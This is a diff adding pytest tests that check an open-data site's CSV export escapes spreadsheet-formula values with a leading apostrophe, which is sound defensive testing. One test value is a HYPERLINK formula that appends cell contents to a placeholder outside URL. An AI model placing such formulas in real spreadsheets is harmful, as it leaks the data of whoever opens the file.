@@ -66,6 +66,29 @@ class TestDatasets:
         assert eurodesk["url_en"] == "http://testserver/en/networks/eurodesk/"
         assert rows[0]["name_en"] == ""  # untranslated: left empty, not guessed
 
+    def test_csv_puts_an_apostrophe_before_a_text_a_spreadsheet_would_run(self, client, networks):
+        eurodesk = networks["eurodesk"]
+        eurodesk.name_it = '=HYPERLINK("https://example.com/?"&A1;"Eurodesk")'
+        eurodesk.acronym = "@ED"
+        eurodesk.promoter = "-Commissione europea"
+        eurodesk.founded_year = 1990
+        eurodesk.save()
+        membership = eurodesk.memberships.get()
+        membership.sector_en = "+youth"
+        membership.save()
+        row = csv_rows(client.get("/opendata/networks.csv"))[1]
+        assert row["name_it"] == '\'=HYPERLINK("https://example.com/?"&A1;"Eurodesk")'
+        assert row["acronym"] == "'@ED"
+        assert row["promoter"] == "'-Commissione europea"
+        assert row["sector_en"] == "'+youth"
+        assert row["name_en"] == "Eurodesk"
+        assert (row["founded_year"], row["joined_year"]) == ("1990", "2007")
+        assert row["url_it"] == "http://testserver/it/reti/eurodesk/"
+        # The JSON has the texts as they are: no spreadsheet reads it.
+        record = client.get("/opendata/networks.json").json()["networks"][1]
+        assert record["name"]["it"] == eurodesk.name_it
+        assert record["sector"]["en"] == "+youth"
+
     def test_json_holds_the_same_networks(self, client, networks):
         data = client.get("/opendata/networks.json").json()
         assert data["count"] == 2
@@ -165,6 +188,16 @@ class TestOpenDataPage:
         assert 'href="/opendata/networks.json"' in content
         assert "CC BY 4.0" in content
         assert "<code>name_en</code>" in content
+
+    @pytest.mark.parametrize(
+        ("path", "note"),
+        [
+            ("/it/dati-aperti/", "è preceduto da un apostrofo (<code>'</code>)"),
+            ("/en/open-data/", "has an apostrophe (<code>'</code>) before it"),
+        ],
+    )
+    def test_page_tells_how_the_csv_keeps_formulas_texts(self, client, path, note):
+        assert note in client.get(path).content.decode()
 
     def test_page_carries_the_dcat_ap_it_catalogue(self, client):
         content = client.get("/it/dati-aperti/").content.decode()
